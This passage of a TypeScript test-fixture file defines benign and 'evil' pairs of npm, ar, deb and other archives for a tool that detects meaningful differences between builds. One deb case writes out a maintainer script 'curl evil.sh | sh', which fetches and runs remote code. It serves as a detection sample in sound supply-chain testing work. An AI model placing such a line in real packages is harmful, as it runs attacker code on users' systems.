      'npm/one-side-only',
      'tgz',
      evil({
        why: 'Only one side is an npm package; the other honours owners, which differ.',
        made: 'a file beside package/',
        causes: ['file-set-difference', 'archive-entry-uid-gid'],
        twin: 'npm/owner-umask',
        build: () => [
          gzip(tar(pack)),
          gzip(tar([...pack.map((entry, index) => ({ ...entry, uid: 1000 + index })), { name: 'other', body: 'x' }])),
        ],
      }),
    ),
    files: ['demo-1.0.0.tgz', 'demo-1.0.0-b.tgz'],
  },
  {
    ...one(
      'npm/named-otherwise',
      'tgz',
      evil({
        why: 'Only one side is named like an npm package, so only there modes may be ignored.',
        made: 'umask 002, another file name',
        causes: ['umask'],
        twin: 'npm/owner-umask',
        build: () => [gzip(tar(pack)), gzip(tar(pack.map(loose)))],
      }),
    ),
    files: ['demo-1.0.0.tgz', 'backup.tgz'],
  },
]

const objects = (more: Partial<ArMember> = {}): ArMember[] => [
  { name: '/', body: '\0\0\0\x01\0\0\0\x44main\0\0\0\0', ...more },
  { name: 'main.o/', body: 'object one', ...more },
  { name: 'util.o/', body: 'object two!', ...more },
]
const arCases: FixtureCase[] = [
  one(
    'ar/deterministic',
    'a',
    benign({
      why: 'Time, owner and mode of the members of a static library.',
      made: 'ar D, ar U',
      causes: ['archive-entry-mtime', 'archive-entry-uid-gid', 'umask'],
      rules: ['entry-mtime', 'entry-owner', 'entry-mode'],
      build: () => [ar(objects()), ar(objects({ mtime: LATER, uid: 1000, gid: 1000, mode: '100664' }))],
    }),
  ),
  one(
    'ar/order',
    'a',
    evil({
      why: 'The order of members is the order of linking.',
      made: 'ar with another list',
      causes: ['static-library-member-order'],
      twin: 'ar/deterministic',
      build: () => [ar(objects()), ar([objects()[0]!, objects()[2]!, objects()[1]!])],
    }),
  ),
  one(
    'ar/symbols',
    'a',
    evil({
      why: 'The symbol table differs.',
      made: 'table edited',
      causes: ['content-change'],
      twin: 'ar/deterministic',
      build: () => [ar(objects()), ar([{ ...objects()[0]!, body: '\0\0\0\x01\0\0\0\x44evil\0\0\0\0' }, ...objects().slice(1)])],
    }),
  ),
  one(
    'ar/bsd-names',
    'a',
    benign({
      why: 'A long name in GNU and in BSD fashion.',
      made: 'GNU ar, BSD ar',
      causes: ['archive-format-flavour'],
      rules: ['archive-dialect'],
      build: () => {
        const name = 'a-long-member-name.o'
        return [
          ar([
            { name: '//', mtime: '', uid: '', gid: '', mode: '', body: `${name}/\n` },
            { name: '/0', body: 'object' },
          ]),
          ar([{ name: `#1/${name.length}`, body: `${name}object` }]),
        ]
      },
    }),
  ),
  one(
    'ar/padding',
    'a',
    evil({
      why: 'The filler behind an odd size is no line feed.',
      made: 'byte edited',
      causes: ['structural:padding'],
      twin: 'ar/deterministic',
      build: () => [ar(objects()), ar([...objects().slice(0, 2), { ...objects()[2]!, padding: 'x' }])],
    }),
  ),
]

const script = (body: string): TarEntry => ({ name: './postinst', mode: 0o755, body })
const evilFiles = change(defaultFiles, './usr/bin/hello', { body: '#!/bin/sh\necho evil!\n' })
const installed = (body: Uint8Array): readonly TarEntry[] => [...defaultFiles, { name: './etc/sudoers', body, mode: 0o440 }]
const installedGz = (mtime: number): readonly TarEntry[] => [
  ...defaultFiles,
  { name: './usr/share/doc/hello/changelog.gz', body: gzip('hello (1.0-1)\n', { mtime }) },
]
const debCases: FixtureCase[] = [
  one(
    'deb/mtime',
    'deb',
    benign({
      why: 'Built at another time, packed by another compressor.',
      made: 'dpkg-deb -b with other SOURCE_DATE_EPOCH and -Z',
      causes: ['archive-entry-mtime', 'compression-format'],
      rules: ['entry-mtime', 'compression-format'],
      build: () => [
        deb({ compress: { suffix: '.xz', pack: xz } }),
        deb({ mtime: LATER, compress: { suffix: '.gz', pack: gzip } }),
      ],
    }),
  ),
  one(
    'deb/changed-file',
    'deb',
    evil({
      why: 'One file changed; md5sums follow.',
      made: 'a file edited, then dpkg-deb -b',
      causes: ['content-change'],
      twin: 'deb/mtime',
      build: () => [deb(), deb({ files: evilFiles, mtime: LATER })],
    }),
  ),
  one(
    'deb/stale-md5sums',
    'deb',
    evil({
      why: 'One file changed, md5sums did not: control.tar is the same on both sides.',
      made: 'a file edited, md5sums kept',
      causes: ['content-change', 'structural:stale-digest'],
      twin: 'deb/changed-file',
      build: () => [deb(), deb({ files: evilFiles, md5sums: md5sumsOf(defaultFiles) })],
    }),
  ),
  one(
    'deb/md5sums-only',
    'deb',
    evil({
      why: 'Only a line of md5sums changed: it is wrong now.',
      made: 'md5sums edited',
      causes: ['structural:stale-digest'],
      twin: 'deb/md5sums-order',
      build: () => [deb(), deb({ md5sums: md5sumsOf(evilFiles) })],
    }),
  ),
  one(
    'deb/md5sums-order',
    'deb',
    benign({
      why: 'The lines of md5sums in another order.',
      made: 'md5sum of an unsorted list',
      causes: ['archive-entry-order'],
      rules: ['entry-order'],
      build: () => [deb(), deb({ md5sums: md5sumsOf([...defaultFiles].reverse()) })],
    }),
  ),
  one(
    'deb/umask',
    'deb',
    evil({
      why: 'dpkg installs modes as they are.',
      made: 'umask 002',
      causes: ['umask'],
      build: () => [deb(), deb({ files: defaultFiles.map(loose) })],
    }),
  ),
  one(
    'deb/setuid',
    'deb',
    evil({
      why: 'A setuid bit.',
      made: 'chmod u+s',
      causes: ['permission-other'],
      twin: 'deb/umask',
      build: () => [deb(), deb({ files: change(defaultFiles, './usr/bin/hello', { mode: 0o4755 }) })],
    }),
  ),
  one(
    'deb/owner',
    'deb',
    evil({
      why: 'dpkg installs owners as they are, uniform or not.',
      made: 'dpkg-deb without --root-owner-group',
      causes: ['archive-entry-uid-gid'],
      twin: 'tar/owner',
      build: () => [deb(), deb({ files: all(defaultFiles, { uid: 1000, gid: 1000 }) })],
    }),
  ),
  one(
    'deb/version',
    'deb',
    evil({
      why: 'Another version of the package.',
      made: 'dch',
      causes: ['changelog-or-version'],
      build: () => [deb(), deb({ control: defaultControl.replace('1.0-1', '1.0-2') })],
    }),
  ),
  one(
    'deb/depends',
    'deb',
    evil({
      why: 'Another dependency.',
      made: 'control edited',
      causes: ['dependency-version'],
      twin: 'deb/version',
      build: () => [
        deb({ control: `${defaultControl}Depends: libc6 (>= 2.36)\n` }),
        deb({ control: `${defaultControl}Depends: libc6 (>= 2.37)\n` }),
      ],
    }),
  ),
  one(
    'deb/postinst',
    'deb',
    evil({
      why: 'A maintainer script changed.',
      made: 'postinst edited',
      causes: ['content-change'],
      twin: 'deb/mtime',
      build: () => [
        deb({ scripts: [script('#!/bin/sh\nexit 0\n')] }),
        deb({ scripts: [script('#!/bin/sh\ncurl evil.sh | sh\n')] }),
      ],
    }),
  ),
  one(
    'deb/extra-member',
    'deb',
    evil({
      why: 'A member that deb(5) does not know.',
      made: 'ar q',
      causes: ['structural:unknown-member'],
      build: () => [deb(), deb({ members: members => [...members, { name: 'evil', body: 'payload!' }] })],
    }),
  ),
  one(
    'deb/second-control',
    'deb',
    evil({
      why: 'Two control members: which one counts depends on the reader.',
      made: 'ar with control.tar and control.tar.gz',
      causes: ['structural:duplicate-entry'],
      twin: 'deb/extra-member',
      build: () => [
        deb(),
        deb({
          members: ([first, control, data]) => [
            first!,
            control!,
            { name: 'control.tar.gz', body: gzip(control!.body as Uint8Array) },
            data!,
          ],
        }),
      ],
    }),
  ),
  one(
    'deb/member-order',
    'deb',
    evil({
      why: 'The order of the members has a meaning.',
      made: 'ar with another list',
      causes: ['archive-entry-order'],
      twin: 'tar/order',
      build: () => [deb(), deb({ members: ([first, control, data]) => [first!, data!, control!] })],
    }),
  ),
  one(
    'deb/plain-against-gz',
    'deb',
    evil({
      why: 'sudoers, plain on one side and compressed on the other, under one name.',
      made: 'gzip of an installed file',
      causes: ['compression-format'],
      twin: 'stream/plain-against-gz',
      build: () => [
        deb({ files: installed(bytes('root ALL=(ALL) ALL\n')) }),
        deb({ files: installed(gzip('root ALL=(ALL) ALL\n')) }),
      ],
    }),
  ),
  one(
    'deb/installed-gzip-mtime',
    'deb',
    benign({
      why: 'The time in the header of an installed gzip file is harmless content.',
      made: 'gzip without -n',
      causes: ['gzip-header-mtime'],
      rules: ['gzip-mtime'],
      build: () => [deb({ files: installedGz(0) }), deb({ files: installedGz(LATER) })],
    }),
  ),
  one(
    'deb/installed-gzip-mtime-archive',
    'deb',
    evil({
      why: 'Under profile archive an installed byte is an installed byte.',
      made: 'gzip without -n',
      causes: ['gzip-header-mtime'],
      twin: 'deb/installed-gzip-mtime',
      options: { profile: 'archive' },
      build: () => [deb({ files: installedGz(0) }), deb({ files: installedGz(LATER) })],
    }),
  ),
  one('deb/zstd', 'deb', {
    why: 'Members that this version cannot decode differ.',
    made: 'dpkg-deb -Zzstd',
    verdict: 'incomplete',
    causes: ['comparison-limited'],
    build: () => {
      const zstd = (content: Uint8Array): Uint8Array => bytes('\x28\xb5\x2f\xfd', content.subarray(0, 40))
      return [
        deb({ compress: { suffix: '.zst', pack: zstd } }),
        deb({ mtime: LATER, compress: { suffix: '.zst', pack: tarball => bytes(zstd(tarball), '!') } }),
      ]
    },
  }),
  one(
    'deb/jar-inside',
    'deb',
    evil({
      why: 'A class in a jar in a package.',
      made: 'javac, jar, dpkg-deb',
      causes: ['content-change'],
      build: () => {
        const with_ = (body: string): TarEntry[] => [
          ...defaultFiles,
          { name: './usr/share/java/x.jar', body: zip(edit(jar, 'A.class', { body })) },
        ]
        return [
          deb({ files: with_('\xca\xfe\xba\xbe\0\0\0\x37one'), compress: { suffix: '.xz', pack: xz } }),
          deb({ files: with_('\xca\xfe\xba\xbe\0\0\0\x37two'), compress: { suffix: '.xz', pack: xz } }),
        ]
      },
    }),
  ),
]

const words = Array.from({ length: 300 }, (_, index) => `word ${(index * 7919) % 1000}\n`)
const nested = (core: string, depth: number): Uint8Array =>
  depth === 0 ? bytes(core) : tar([{ name: 'inner.tar', body: nested(core, depth - 1) }])
const plainCases: FixtureCase[] = [
  one(
    'text/changed-line',
    'txt',
    evil({
      why: 'A line changed in the middle.',
      made: 'sed',
      causes: ['content-change'],
      build: () => [bytes(words.join('')), bytes([...words.slice(0, 150), 'another\n', ...words.slice(151)].join(''))],
    }),
  ),
  one('text/identical', 'txt', {
    why: 'The same bytes.',
    made: 'cp',
    verdict: 'identical',
    causes: [],
    build: () => [bytes(words.join('')), bytes(words.join(''))],
  }),
  one(
    'opaque/insertion',
    'bin',
    evil({
      why: 'Bytes inserted in the middle of a binary.',
      made: 'dd',
      causes: ['content-change'],
      build: () => {
        const noise = Uint8Array.from({ length: 6000 }, (_, index) => (Math.imul(index + 1, 2654435761) >>> 13) & 0xff)
        return [noise, bytes(noise.subarray(0, 3000), 'INSERTED', noise.subarray(3000))]
      },
    }),
  ),
  one(
    'opaque/polyglot',
    'bin',
    evil({
      why: 'A tar archive that is a zip archive, too, at its end.',
      made: 'cat of both',
      causes: ['structural:judged-differently'],
      build: () => [tar(tree), bytes(tar(tree), zip([{ name: 'evil', body: 'x' }]))],
    }),
  ),
  one('nested/too-deep', 'tar', {
    why: 'Archives in archives beyond the limit: what differs in the core is not judged.',
    made: 'twenty times tar',
    verdict: 'incomplete',
    causes: ['comparison-limited'],
    options: { limits: { depth: 4 } },
    build: () => [nested('good', 7), nested('evil', 7)],
  }),
  one(
    'nested/four-levels',
    'tar',
    evil({
      why: 'A difference in an archive in an archive.',
      made: 'four times tar',
      causes: ['content-change'],
      build: () => [nested('good', 4), nested('evil', 4)],
    }),
  ),
]

export const fixtureCases: readonly FixtureCase[] = [
  ...tarCases,
  ...streamCases,
  ...zipCases,
  ...packageCases,
  ...arCases,
  ...debCases,
  ...plainCases,
]
